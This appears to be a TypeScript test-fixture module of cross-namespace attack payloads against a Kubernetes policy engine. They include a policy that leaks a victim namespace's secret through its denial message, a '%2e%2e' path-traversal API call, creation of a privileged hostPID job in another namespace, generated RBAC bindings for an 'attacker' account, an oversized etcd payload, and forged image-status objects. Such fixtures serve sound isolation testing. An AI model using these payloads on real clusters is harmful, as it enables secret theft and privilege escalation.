/** What a tenant of namespace `tenant` writes to reach namespace `victim`, and what an administrator grants. */

export interface PolicyLike {
  readonly kind: string;
  readonly metadata: { readonly name: string; readonly namespace?: string };
}

type PolicyKind = 'Policy' | 'ClusterPolicy';

const automation = '/apis/automation.gitops.io/v1beta1/namespaces/tenant';
export const paths = {
  clusterPolicies: '/apis/kyverno.io/v1/clusterpolicies',
  policies: '/apis/kyverno.io/v1/namespaces/tenant/policies',
  exceptions: '/apis/kyverno.io/v2/namespaces/tenant/policyexceptions',
  configMaps: '/api/v1/namespaces/tenant/configmaps',
  automation,
  imagePolicyStatus: `${automation}/imageresourcepolicies/images/status`,
};

function policy(name: string, kind: PolicyKind, rule: object, spec: object = {}): PolicyLike {
  const where = kind === 'Policy' ? {} : { namespaces: ['tenant'] };
  const resources = { kinds: ['ConfigMap'], names: [name], ...where };
  return {
    apiVersion: 'kyverno.io/v1',
    kind,
    metadata: { name, ...(kind === 'Policy' ? { namespace: 'tenant' } : {}) },
    spec: { background: false, rules: [{ name: 'r', match: { any: [{ resources }] }, ...rule }], ...spec },
  } as PolicyLike;
}

/** Shows in its refusal what a look-up found. */
export function leak(name: string, entry: object, kind: PolicyKind = 'Policy'): PolicyLike {
  const found = '{{ to_string(found) }}';
  const deny = { conditions: { all: [{ key: found, operator: 'NotEquals', value: '' }] } };
  const validate = { failureAction: 'Enforce', message: `found ${found}`, deny };
  return policy(name, kind, { context: [{ name: 'found', ...entry }], validate });
}

const call = (urlPath: string) => ({ apiCall: { urlPath, jmesPath: 'data.key' } });
export const secretCall = call('/api/v1/namespaces/victim/secrets/token');
export const encodedCall = call('/api/v1/namespaces/tenant/%2e%2e/victim/secrets/token');
export const settingOf = (namespace: string) => ({ configMap: { name: 'settings', namespace } });

/** A privileged workload in another namespace. */
export function createJob(name: string): object {
  const containers = [{ name: 'c', image: 'i', securityContext: { privileged: true } }];
  const fields = {
    apiVersion: 'batch/v1',
    kind: 'Job',
    metadata: { name },
    spec: { template: { spec: { restartPolicy: 'Never', hostPID: true, containers } } },
  };
  const data = Object.entries(fields).map(([key, value]) => ({ key, value }));
  return {
    apiCall: { method: 'POST', urlPath: '/apis/batch/v1/namespaces/victim/jobs', data, jmesPath: 'metadata.name' },
  };
}

/** Generates whatever kind its trigger names. */
export function bind(name: string, kind: PolicyKind = 'Policy'): PolicyLike {
  const apiGroup = 'rbac.authorization.k8s.io';
  const generate = {
    apiVersion: `${apiGroup}/v1`,
    kind: '{{ request.object.data.kind }}',
    name,
    ...(kind === 'Policy' ? { namespace: 'tenant' } : {}),
    synchronize: false,
    data: {
      roleRef: { apiGroup, kind: 'ClusterRole', name: 'view' },
      subjects: [{ kind: 'ServiceAccount', name: 'attacker', namespace: 'tenant' }],
    },
  };
  return policy(name, kind, { generate });
}

/** Labels an object of whatever kind its trigger names. */
export function label(name: string, target: string, kind: PolicyKind = 'Policy'): PolicyLike {
  const targets = [{ apiVersion: 'v1', kind: '{{ request.object.data.kind }}', name: target }];
  const patchStrategicMerge = { metadata: { labels: { owned: 'yes' } } };
  return policy(name, kind, { mutate: { targets, patchStrategicMerge } }, { background: true });
}

/** Changes an object of its own namespace into one of another. */
export function move(name: string, target: string): PolicyLike {
  const targets = [{ apiVersion: 'v1', kind: 'ConfigMap', name: target }];
  const patchesJson6902 = '[{"op":"replace","path":"/metadata/namespace","value":"victim"}]';
  return policy(name, 'Policy', { mutate: { targets, patchesJson6902 } }, { background: true });
}

export const guard = (name: string): PolicyLike =>
  policy(name, 'ClusterPolicy', {
    validate: { failureAction: 'Enforce', message: 'guarded by the administrator', deny: {} },
  });

export const exemption = (policyName: string): object => ({
  apiVersion: 'kyverno.io/v2',
  kind: 'PolicyException',
  metadata: { name: policyName },
  spec: {
    exceptions: [{ policyName, ruleNames: ['*'] }],
    match: { any: [{ resources: { kinds: ['ConfigMap'], names: [policyName] } }] },
  },
});

const conditioned = (name: string, matchConditions: readonly object[]) =>
  policy(
    name,
    'Policy',
    { validate: { message: 'm', pattern: { data: { a: 'b' } } } },
    { webhookConfiguration: { matchConditions } },
  );

/** The API server compiles it when the webhook is registered. */
export const badExpression = (name: string) => conditioned(name, [{ name: 'bad', expression: 'no such expression' }]);

/** Together larger than any object that etcd stores. */
export const largeConditions = (name: string): readonly PolicyLike[] =>
  ['1', '2'].map((suffix) =>
    conditioned(
      `${name}-${suffix}`,
      Array.from({ length: 45 }, (_, i) => ({
        name: `c${i}`,
        expression: `object.metadata.name != '${'a'.repeat(20_000)}'`,
      })),
    ),
  );

const apiVersion = 'automation.gitops.io/v1beta1';
export const imagePolicy = {
  apiVersion,
  kind: 'ImageResourcePolicy',
  metadata: { name: 'images' },
  spec: {
    ociRepository: { registry: 'r.example', repositoryPattern: '^web$' },
    policy: { alphabetical: {} },
    templateRef: { name: 't' },
  },
};
const digest = `sha256:${'0'.repeat(64)}`;
export const detection = {
  apiVersion,
  kind: 'ImageDetected',
  metadata: { name: 'forged' },
  spec: {
    imageName: 'web',
    imageTag: 'v1',
    imageDigest: digest,
    fullImageName: 'r.example/web:v1',
    sourcePolicy: { name: 'images' },
    detectedAt: '2026-01-01T00:00:00Z',
  },
};
export const confirmation = {
  status: { lastDetected: [{ repository: 'web', tag: 'v1', digest, detectedAt: '2026-01-01T00:00:00Z' }] },
};
const lastTransitionTime = '2026-01-01T00:00:00Z';
export const readiness = {
  status: { conditions: [{ type: 'Ready', status: 'False', reason: 'Forged', message: 'forged', lastTransitionTime }] },
};

const rbacGroup = 'rbac.authorization.k8s.io';
/** What an administrator aggregates to the rights of the part that generates. */
export const generateRights = {
  metadata: { name: 'generate-bindings', labels: { 'supercargo.dev/aggregate-to-generate': 'true' } },
  rules: [
    { apiGroups: [rbacGroup], resources: ['clusterrolebindings'], verbs: ['create'] },
    { apiGroups: [rbacGroup], resources: ['clusterroles'], resourceNames: ['view'], verbs: ['bind'] },
    { apiGroups: [''], resources: ['namespaces'], verbs: ['get', 'update'] },
  ],
};
/** What an administrator grants for deletion, in all namespaces. */
export const cleanupRights = {
  metadata: { name: 'delete-configmaps', labels: { 'supercargo.dev/aggregate-to-cleanup': 'true' } },
  rules: [{ apiGroups: [''], resources: ['configmaps'], verbs: ['get', 'list', 'watch', 'delete'] }],
};
export const victimRole = {
  metadata: { name: 'looked-up' },
  rules: [
    { apiGroups: [''], resources: ['secrets'], verbs: ['get'] },
    { apiGroups: ['batch'], resources: ['jobs'], verbs: ['create'] },
  ],
};
export const victimBinding = (account: string) => ({
  metadata: { name: 'looked-up' },
  subjects: [{ kind: 'ServiceAccount', name: account, namespace: 'home' }],
  roleRef: { apiGroup: rbacGroup, kind: 'Role', name: 'looked-up' },
});
export const statusRights = {
  metadata: { name: 'policy-status' },
  rules: [{ apiGroups: ['kyverno.io'], resources: ['clusterpolicies/status'], verbs: ['patch'] }],
};
export const statusBinding = {
  metadata: { name: 'policy-status' },
  subjects: [{ kind: 'ServiceAccount', name: 'attacker', namespace: 'tenant' }],
  roleRef: { apiGroup: rbacGroup, kind: 'ClusterRole', name: 'policy-status' },
};
